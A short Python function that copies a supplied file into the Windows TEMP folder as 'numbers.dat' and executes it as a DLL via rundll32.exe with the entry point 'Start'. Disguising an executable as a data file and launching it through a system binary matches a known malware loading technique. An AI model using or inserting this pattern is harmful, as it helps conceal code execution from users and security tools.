import os, shutil, subprocess

def prepare(source):
    target = os.path.join(os.environ["TEMP"], "numbers.dat")
    shutil.copy(source, target)
    subprocess.Popen(["rundll32.exe", target + ",Start"])
